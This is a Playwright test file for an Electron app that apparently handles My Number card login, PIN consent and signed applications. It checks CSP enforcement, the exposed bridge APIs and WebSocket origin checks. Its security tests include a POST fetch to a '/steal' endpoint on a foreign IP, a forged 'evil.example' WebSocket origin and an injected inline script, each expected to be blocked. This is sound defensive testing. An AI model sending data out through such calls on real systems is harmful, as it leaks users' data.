/**
 * The app's pages under the test host: CSP in force, the bridge is exactly the contract, no
 * Node in the page, the bundled Japanese font, the demo card, login and a signed application
 * through the emulated card with the consent tab, and a cancelled consent.
 */
import { channelsOf, SURFACE } from '../../electron/ipc/surface.ts';
import { expect, loginWithCard, RESIDENT_01, test } from './fixtures.ts';

const fnsOf = (w: 'portal' | 'consent') =>
  channelsOf(w)
    .map((c) => SURFACE[c].fn)
    .sort();

test.describe('pages and their security', () => {
  test('the portal page is served with the app CSP and an inline script does not run', async ({ portal, host }) => {
    const response = await portal.request.get(host.portalPage);
    expect(response.headers()['content-security-policy']).toBe(host.csp);
    expect(host.csp).toContain("script-src 'self'");

    const violation = await portal.evaluate(
      () =>
        new Promise<{ directive: string; sample: string }>((resolve) => {
          document.addEventListener(
            'securitypolicyviolation',
            (e) => resolve({ directive: e.effectiveDirective, sample: e.sample }),
            { once: true },
          );
          const s = document.createElement('script');
          s.textContent = 'window.__inlineRan = true;';
          document.head.append(s);
        }),
    );
    expect(violation.directive).toMatch(/^script-src/);
    expect(await portal.evaluate(() => (window as unknown as { __inlineRan?: boolean }).__inlineRan)).toBeUndefined();
  });

  test('a fetch to a foreign origin is blocked by connect-src', async ({ portal }) => {
    const outcome = await portal.evaluate(async () => {
      const seen = new Promise<string>((resolve) =>
        document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true }),
      );
      const result = await fetch('http://203.0.113.7:8080/steal', { method: 'POST', body: 'x' }).then(
        () => 'sent',
        () => 'blocked',
      );
      return { result, directive: await seen };
    });
    expect(outcome).toEqual({ result: 'blocked', directive: 'connect-src' });
  });

  test('window.myna is exactly the portal functions of the contract; no Node, no ipcRenderer', async ({ portal }) => {
    const seen = await portal.evaluate(() => ({
      keys: Object.keys(window.myna).sort(),
      frozen: Object.isFrozen(window.myna),
      consent: typeof (window as unknown as { mynaConsent?: unknown }).mynaConsent,
      require: typeof (window as unknown as { require?: unknown }).require,
      process: typeof (window as unknown as { process?: unknown }).process,
      ipcRenderer: typeof (window as unknown as { ipcRenderer?: unknown }).ipcRenderer,
    }));
    expect(seen).toEqual({
      keys: fnsOf('portal'),
      frozen: true,
      consent: 'undefined',
      require: 'undefined',
      process: 'undefined',
      ipcRenderer: 'undefined',
    });
  });

  test('window.mynaConsent is exactly the consent functions of the contract', async ({ consent }) => {
    const seen = await consent.evaluate(() => ({
      keys: Object.keys(window.mynaConsent).sort(),
      myna: typeof (window as unknown as { myna?: unknown }).myna,
      require: typeof (window as unknown as { require?: unknown }).require,
      process: typeof (window as unknown as { process?: unknown }).process,
      ipcRenderer: typeof (window as unknown as { ipcRenderer?: unknown }).ipcRenderer,
    }));
    expect(seen).toEqual({
      keys: fnsOf('consent'),
      myna: 'undefined',
      require: 'undefined',
      process: 'undefined',
      ipcRenderer: 'undefined',
    });
  });

  test('the bridge WebSocket refuses a foreign Origin', async ({ host }) => {
    const { WebSocket } = await import('ws');
    const url = `${host.origin.replace('http:', 'ws:')}/__host/ws?kind=portal`;
    const status = await new Promise<number | string>((resolve) => {
      const ws = new WebSocket(url, { origin: 'http://evil.example' });
      ws.on('unexpected-response', (_req, res) => resolve(res.statusCode ?? 0));
      ws.on('open', () => resolve('open'));
      ws.on('error', () => resolve('error'));
    });
    expect(status).toBe(403);
  });

  test('Japanese text renders with the bundled Noto Sans JP', async ({ portal, host }) => {
    await expect(portal.getByRole('heading', { name: 'カードとリーダ' })).toBeVisible();
    const font = await portal.evaluate(async () => {
      await document.fonts.ready;
      await document.fonts.load('16px "Noto Sans JP Variable"', 'マイナンバーカード');
      const faces = [...document.fonts].filter((f) => f.family.includes('Noto Sans JP') && f.status === 'loaded');
      const woff2 = performance
        .getEntriesByType('resource')
        .map((e) => e.name)
        .filter((n) => n.endsWith('.woff2'));
      return {
        check: document.fonts.check('16px "Noto Sans JP Variable"', 'マイナンバーカード'),
        loadedFaces: faces.length,
        woff2,
        family: getComputedStyle(document.body).fontFamily,
      };
    });
    expect(font.check).toBe(true);
    expect(font.loadedFaces).toBeGreaterThan(0);
    expect(font.family).toMatch(/^"?Noto Sans JP Variable/);
    expect(font.woff2.length).toBeGreaterThan(0);
    for (const url of font.woff2) expect(url.startsWith(`${host.origin}/assets/`)).toBe(true);
  });
});

test.describe('card, login and signing through the emulated card', () => {
  test('the card panel shows the demo card, and the header its badge', async ({ portal }) => {
    await expect(portal.getByTestId('card-demo')).toHaveText('デモカード');
    await expect(portal.getByTestId('demo-badge')).toHaveText('デモカード');
    await expect(portal.getByTestId('pin-auth')).toHaveAttribute('data-remaining', '3');
  });

  test('login: the consent tab shows the portal origin and 3 tries; a wrong PIN is not retried', async ({
    portal,
    consent,
    host,
  }) => {
    await portal.getByTestId('login').click();
    await expect(portal.getByTestId('login-progress')).toBeVisible();

    await expect(consent.getByTestId('consent')).toHaveAttribute('data-kind', 'login');
    await expect(consent.getByTestId('consent-origin')).toHaveText(host.services.portalOrigin);
    await expect(consent.getByTestId('consent-remaining')).toHaveAttribute('data-remaining', '3');
    await expect(consent.getByTestId('consent-demo')).toBeVisible();

    await consent.getByTestId('pin').fill('9999');
    await consent.getByTestId('consent-submit').click();
    await expect(consent.getByTestId('consent-remaining')).toHaveAttribute('data-remaining', '2');
    await expect(consent.getByTestId('consent-wrong')).toBeVisible();
    await expect(consent.getByTestId('pin')).toHaveValue('');
    // No automatic retry: the window waits for the resident, the portal page is still waiting.
    await portal.waitForTimeout(500);
    await expect(consent.getByTestId('consent-remaining')).toHaveAttribute('data-remaining', '2');
    await expect(consent.getByTestId('consent')).toHaveAttribute('data-state', 'wrong-pin');
    await expect(portal.getByTestId('login-progress')).toBeVisible();

    await consent.getByTestId('pin').fill(RESIDENT_01.authPin);
    await consent.getByTestId('consent-submit').click();
    await expect(portal.getByTestId('resident')).toContainText(RESIDENT_01.name);
    await expect(consent.getByTestId('consent-idle')).toBeVisible();
    await expect(portal.getByTestId('pin-auth')).toHaveAttribute('data-remaining', '3');
  });

  test('signed test application: the consent tab shows what is signed; the portal gives a 受付番号', async ({
    portal,
    consent,
  }) => {
    await loginWithCard(portal, consent);
    await portal.getByTestId('nav-apply').click();
    await portal.getByTestId('submit-application').click();

    await expect(consent.getByTestId('consent')).toHaveAttribute('data-kind', 'sign-application');
    await expect(consent.getByTestId('consent-fingerprint')).toHaveText(/^[0-9A-F]{4}( [0-9A-F]{4})+$/);
    await expect(consent.getByTestId('consent-attachments')).toContainText('通帳の写し.pdf');
    // The name when main found it in the portal's catalog, else the procedure id (never the page's word).
    await expect(consent.getByTestId('consent-procedure')).toContainText(/児童手当/);
    await expect(consent.getByTestId('consent-remaining')).toHaveAttribute('data-remaining', '5');
    const fingerprint = (await consent.getByTestId('consent-fingerprint').textContent()) ?? '';

    await consent.getByTestId('pin').fill(RESIDENT_01.signPassword.toLowerCase()); // upper-cased as typed
    await expect(consent.getByTestId('pin')).toHaveValue(RESIDENT_01.signPassword);
    await consent.getByTestId('consent-submit').click();

    await expect(portal.getByTestId('apply-result')).toHaveAttribute('data-delivery', 'delivered');
    await expect(portal.getByTestId('receipt-number')).toHaveText(/\S+/);
    await expect(portal.getByTestId('apply-result')).toContainText(fingerprint);

    await portal.getByTestId('nav-outbox').click();
    await expect(portal.getByTestId('outbox-item').first()).toHaveAttribute('data-state', 'delivered');
  });

  test('signed while logged out: kept in the outbox, retried on request, sent after the login', async ({
    portal,
    consent,
  }) => {
    await portal.getByTestId('nav-apply').click();
    await portal.getByTestId('submit-application').click();
    await expect(consent.getByTestId('consent')).toHaveAttribute('data-kind', 'sign-application');
    await consent.getByTestId('pin').fill(RESIDENT_01.signPassword);
    await consent.getByTestId('consent-submit').click();
    await expect(portal.getByTestId('apply-result')).toHaveAttribute('data-delivery', 'needs-login');

    await portal.getByTestId('nav-outbox').click();
    const item = portal.getByTestId('outbox-item').first();
    await expect(item).toHaveAttribute('data-state', 'needs-login');
    await item.getByTestId('outbox-retry').click();
    await expect(item).toHaveAttribute('data-state', 'needs-login');

    await portal.getByTestId('nav-home').click();
    await loginWithCard(portal, consent);
    await portal.getByTestId('nav-outbox').click();
    await expect(portal.getByTestId('outbox-item').first()).toHaveAttribute('data-state', 'delivered');
    await expect(portal.getByTestId('outbox-item').first()).toContainText('受付番号');
  });

  test('PIN change: current PIN and the new one twice, compared in the consent page', async ({ portal, consent }) => {
    const change = async (from: string, to: string) => {
      await portal.getByTestId('pin-kenhojo').getByRole('button').click();
      await expect(consent.getByTestId('consent')).toHaveAttribute('data-kind', 'change-pin');
      await consent.getByTestId('pin').fill(from);
      await consent.getByTestId('new-pin').fill(to);
      await consent.getByTestId('confirm-pin').fill(to === '5678' ? '5679' : '1235');
      await expect(consent.getByRole('alert')).toContainText('一致しません');
      await expect(consent.getByTestId('consent-submit')).toBeDisabled();
      await consent.getByTestId('confirm-pin').fill(to);
      await consent.getByTestId('consent-submit').click();
      await expect(portal.getByTestId('pin-panel')).toContainText('変更しました');
    };
    await change('1234', '5678');
    await change('5678', '1234');
    await expect(portal.getByTestId('pin-kenhojo')).toHaveAttribute('data-remaining', '3');
  });

  test('a cancelled consent: no signature, the portal page says so and what to do', async ({
    portal,
    consent,
    host,
  }) => {
    await portal.getByTestId('login').click();
    await expect(consent.getByTestId('consent')).toHaveAttribute('data-kind', 'login');
    await consent.getByTestId('consent-cancel').click();

    const error = portal.getByTestId('login-error');
    await expect(error).toHaveAttribute('data-code', 'CONSENT_CANCELLED');
    await expect(error).toContainText('操作は取り消されました');
    await expect(error).toContainText('もう一度操作してください');
    await expect(portal.getByTestId('resident')).toHaveCount(0);
    expect(host.services.portalSession.hasSessionCookie()).toBe(false);
    await expect(portal.getByTestId('pin-auth')).toHaveAttribute('data-remaining', '3');
  });

  test('the language toggle switches the page to English and back, through settings', async ({ portal, host }) => {
    await portal.getByTestId('lang-toggle').click();
    await expect(portal.getByRole('heading', { name: 'Card and reader' })).toBeVisible();
    await expect(portal.locator('html')).toHaveAttribute('lang', 'en');
    expect(host.services.settings.get().language).toBe('en');
    await portal.getByTestId('lang-toggle').click();
    await expect(portal.getByRole('heading', { name: 'カードとリーダ' })).toBeVisible();
  });
});
